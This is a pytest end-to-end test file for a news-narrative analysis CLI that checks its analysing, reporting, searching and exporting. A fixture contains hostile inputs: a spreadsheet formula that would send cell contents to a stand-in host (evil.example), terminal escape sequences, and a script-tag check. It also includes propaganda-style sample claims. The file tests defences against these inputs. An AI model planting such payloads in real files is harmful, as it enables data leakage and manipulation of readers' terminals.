"""End to end: the CLI analyses a small corpus, reports, shows, searches and exports."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

BAD_JSONL = '{"title": "Ok", "text": "Fine article text about the summit."}\nnot json at all\n'
#: hostile metadata and text: a formula for spreadsheets, escape sequences for terminals
#: (clear screen, colour, an OSC-8 hyperlink) and a name split by a tab and a line break
HOSTILE_TXT = (
    'outlet: =HYPERLINK("http://evil.example/?"&A1,"source")\n'
    "date: 2024-11-20\n\n"
    "Kremlin \x1b[2J\x1b[32mVERIFIED\x1b[0m \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\n\n"
    "President Joe\tBiden and Vladimir\nPutin are reckless warmongers who push the world to war,"
    " said Emmanuel Macron. Joe\tBiden is a criminal, Putin said.\n"
)


def _run(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        [sys.executable, "-m", "narrascope", *args],
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "COLUMNS": "250"},  # wide enough that Rich never folds a path
    )
    if check and result.returncode != 0:
        raise AssertionError(f"exit {result.returncode}\n{result.stdout}\n{result.stderr}")
    return result


@pytest.fixture(scope="module")
def analysed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from fixtures import write_corpus

    root = tmp_path_factory.mktemp("e2e")
    corpus = write_corpus(root / "corpus")
    (corpus / "empty.txt").write_bytes(b"")
    (corpus / "blob.txt").write_bytes(b"\x00\x01\x02binary\x00" * 50)
    (corpus / "feed.jsonl").write_text(BAD_JSONL, encoding="utf-8")
    (corpus / "hostile.txt").write_text(HOSTILE_TXT, encoding="utf-8")
    # a mirror site republishing the Kyiv story unchanged under another file name
    (corpus / "zz-mirror").mkdir()
    original = (corpus / "kyiv-ledger" / "biden-atacms.txt").read_bytes()
    (corpus / "zz-mirror" / "atacms-copy.txt").write_bytes(original)
    db = root / "news.db"
    result = _run("analyze", str(corpus), "--db", str(db), "--json")
    summary = json.loads(result.stdout)
    assert summary["analysed"] == 5 and summary["exact_duplicates"] == 1
    rejected = {Path(src).name.split(":")[0]: reason for src, reason in summary["rejects"]}
    assert set(rejected) == {"empty.txt", "blob.txt", "feed.jsonl"}
    assert any(src.endswith("feed.jsonl:2") for src, _ in summary["rejects"])
    return root, db


def test_analyze_then_report(analysed: tuple[Path, Path]) -> None:
    root, db = analysed
    out = root / "report.html"
    _run("report", "--db", str(db), "--out", str(out))
    html = out.read_text(encoding="utf-8")
    assert "Western warmongers push the world to the brink" in html
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    assert "Volodymyr Zelensky" in html  # canonical name of the merged aliases


def test_show_and_search(analysed: tuple[Path, Path]) -> None:
    root, db = analysed
    hits = _run("search", "nuclear doctrine", "--db", str(db)).stdout
    assert "warmongers" in hits.lower()
    _run("export", "--db", str(db), "--format", "jsonl", "--out", str(root / "jsonl"))
    lines = (root / "jsonl" / "documents.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 6  # five analysed, one linked copy
    doc_id = json.loads(lines[0])["id"]
    shown = json.loads(_run("show", doc_id[:8], "--db", str(db), "--json").stdout)
    assert shown["id"] == doc_id
    assert _run("show", doc_id, "--db", str(db)).stdout.strip()


def test_export_formats(analysed: tuple[Path, Path]) -> None:
    root, db = analysed
    _run("export", "--db", str(db), "--format", "csv", "--out", str(root / "csv"))
    assert (root / "csv" / "articles.csv").read_text().count("\n") == 7  # header + 5 + the copy
    with (root / "csv" / "entities.csv").open(encoding="utf-8") as fh:
        entities = list(csv.DictReader(fh))
    framed = [e for e in entities if e["main_role"]]
    assert framed and all(0.0 < float(e["salience"]) <= 1.0 for e in framed)
    with (root / "csv" / "stories.csv").open(encoding="utf-8") as fh:
        stories = list(csv.DictReader(fh))
    # every analysed article is in exactly one story, each story's claims stored by analyze
    assert sum(int(s["articles"]) for s in stories) == 6
    assert all(s["claims_stored"] == "1" for s in stories)
    assert (root / "csv" / "story_outlets.csv").exists() and (root / "csv" / "claims.csv").exists()
    order = ["summit.txt", "warmongers.txt", "biden-atacms.txt"]
    gold = root / "gold-subtask-2.txt"
    gold.write_text("".join(f"{name}\tOther\tOther\n" for name in order), encoding="utf-8")
    _run(
        "export",
        "--db",
        str(db),
        "--format",
        "semeval",
        "--out",
        str(root / "sem"),
        "--gold-order",
        str(gold),
    )
    rows = (root / "sem" / "subtask-2-predictions.txt").read_text(encoding="utf-8").splitlines()
    ids = [row.split("\t")[0] for row in rows]
    assert ids[:3] == order  # gold order first; documents the gold file lacks come after
    for row in rows:
        _, narratives, subs = row.split("\t")
        assert len(narratives.split(";")) == len(subs.split(";"))  # paired by position
    # the copy gets the original's predictions: a scorer expects a line for every file
    sub2 = {row.split("\t")[0]: row.split("\t", 1)[1] for row in rows}
    assert sub2["atacms-copy.txt"] == sub2["biden-atacms.txt"]
    sub1 = (root / "sem" / "subtask-1-predictions.txt").read_text(encoding="utf-8").splitlines()
    by_file: dict[str, list[str]] = {}
    for row in sub1:
        name, rest = row.split("\t", 1)
        by_file.setdefault(name, []).append(rest)
    assert by_file["biden-atacms.txt"] and by_file["atacms-copy.txt"] == by_file["biden-atacms.txt"]
    assert (root / "sem" / "techniques-predictions.txt").exists()


def test_hostile_text_reaches_no_terminal_and_no_spreadsheet(analysed: tuple[Path, Path]) -> None:
    root, db = analysed
    hits = _run("search", "warmongers", "--db", str(db)).stdout
    assert "VERIFIED" in hits and "\x1b" not in hits
    docs = [json.loads(line) for line in (root / "jsonl" / "documents.jsonl").open()]
    (doc_id,) = [d["id"] for d in docs if d["source"].endswith("hostile.txt")]
    shown = _run("show", doc_id, "--db", str(db)).stdout
    assert "VERIFIED" in shown and "Joe Biden" in shown and "\x1b" not in shown
    _run("export", "--db", str(db), "--format", "csv", "--out", str(root / "csv2"))
    with (root / "csv2" / "articles.csv").open(encoding="utf-8") as fh:
        outlets = [row["outlet"] for row in csv.DictReader(fh)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"source")' in outlets
    assert not any(o.startswith(("=", "+", "-", "@")) for o in outlets)
    _run("export", "--db", str(db), "--format", "semeval", "--out", str(root / "sem2"))
    text = (root / "sem2" / "subtask-1-predictions.txt").read_text(encoding="utf-8")
    rows = [line.split("\t") for line in text.splitlines()]
    # one well-formed row per mention: id, name, start, end, main role, fine roles
    assert rows and all(len(r) >= 6 and r[2].isdigit() and r[3].isdigit() for r in rows)
    names = {r[1] for r in rows if r[0] == "hostile.txt"}
    assert names and not any(n != n.strip() for n in names)


def test_rerun_is_a_no_op(analysed: tuple[Path, Path]) -> None:
    root, db = analysed
    summary = json.loads(_run("analyze", str(root / "corpus"), "--db", str(db), "--json").stdout)
    assert summary["analysed"] == 0 and summary["unchanged"] == 5


def test_fatal_errors_exit_non_zero_with_a_message(tmp_path: Path) -> None:
    result = _run(
        "analyze", str(tmp_path), "--db", str(tmp_path / "x.db"), "--stages", "nope", check=False
    )
    assert result.returncode != 0 and "unknown stage 'nope'" in result.stderr
    (tmp_path / "empty.txt").write_bytes(b"")
    result = _run(
        "analyze",
        str(tmp_path / "empty.txt"),
        str(tmp_path / "missing.txt"),
        "--db",
        str(tmp_path / "x.db"),
        "--stages",
        "nlp",
        check=False,
    )
    assert result.returncode == 2 and "all 2 inputs were rejected" in result.stderr
    assert "empty.txt" in result.stderr and "missing.txt" in result.stderr
    assert not (tmp_path / "x.db").exists()  # a run that stored nothing leaves no database
    from narrascope.store import Database

    Database(tmp_path / "x.db").close()  # an empty database for the readers below
    result = _run("show", "doesnotexist", "--db", str(tmp_path / "x.db"), check=False)
    assert result.returncode != 0 and "no article with id" in result.stderr
    result = _run("export", "--db", str(tmp_path / "x.db"), "--format", "xml", check=False)
    assert result.returncode != 0 and "expected jsonl, csv or semeval" in result.stderr
    # commands that only read never create a database, and bad output paths are named
    missing = tmp_path / "nowhere.db"
    for command in (["show", "abc"], ["search", "x"], ["report"], ["export"]):
        result = _run(*command, "--db", str(missing), check=False)
        assert result.returncode == 1 and "no such database" in result.stderr, command
    assert not missing.exists()
    (tmp_path / "taken").write_text("a file, not a folder", encoding="utf-8")
    result = _run(
        "export", "--db", str(tmp_path / "x.db"), "--out", str(tmp_path / "taken"), check=False
    )
    assert result.returncode == 1 and "cannot write exports" in result.stderr
    nested = tmp_path / "new" / "dir" / "r.html"
    _run("report", "--db", str(tmp_path / "x.db"), "--out", str(nested))
    assert nested.read_text(encoding="utf-8").startswith("<!")
